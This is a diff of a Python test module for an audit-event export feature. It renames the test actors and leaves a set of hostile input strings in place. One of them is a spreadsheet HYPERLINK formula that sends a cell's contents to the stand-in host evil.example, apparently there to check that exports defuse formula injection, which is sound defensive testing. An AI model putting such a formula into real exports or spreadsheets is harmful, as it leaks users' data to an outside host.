@@ -16,8 +16,8 @@ from killswitch.audit.models import AuditEvent, EventKind
 from tests.audit.log import record
 from tools import verify_export
 
-CAROL = Actor(name="Carol Dean (carol)", role="COMPLIANCE")
-RITA = Actor(name="Rita Moss (rita)", role="RISK_OFFICER")
+CARL = Actor(name="Carl Ito (carl)", role="COMPLIANCE")
+OLGA = Actor(name="Olga Ray (olga)", role="RISK_OFFICER")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HOSTILE = ("\x00\x1b[31m", "é漢字🛑\u2028", '"quoted", \\back\\', "a;=1+1", "+1\r\n-2\t@3", FORMULA)
 REQUEST = "0b8e1c9a-5c0f-4a9e-9a3e-3f1f6f1f0001"
@@ -51,9 +51,9 @@ class Exported:
 
 
 def begin(layout: ExportFormat = ExportFormat.JSONL, **selected: Any) -> export.Export:
-    """Begin an export by Carol."""
+    """Begin an export by Carl."""
     return export.begin(
-        selection=EventFilter(**selected), layout=layout, who=CAROL, origin={"address": "10.0.0.7"}
+        selection=EventFilter(**selected), layout=layout, who=CARL, origin={"address": "10.0.0.7"}
     )
 
 
@@ -72,7 +72,7 @@ def fill(presses: int = 3) -> None:
             "request_id": f"{REQUEST[:-1]}{number % 10}",
         }
         record(
-            NewEvent(kind=EventKind.REQUESTED, actor=RITA, status="REQUESTED", **of_request),
+            NewEvent(kind=EventKind.REQUESTED, actor=OLGA, status="REQUESTED", **of_request),
             NewEvent(
                 kind=EventKind.ATTEMPT,
                 status="SENDING",
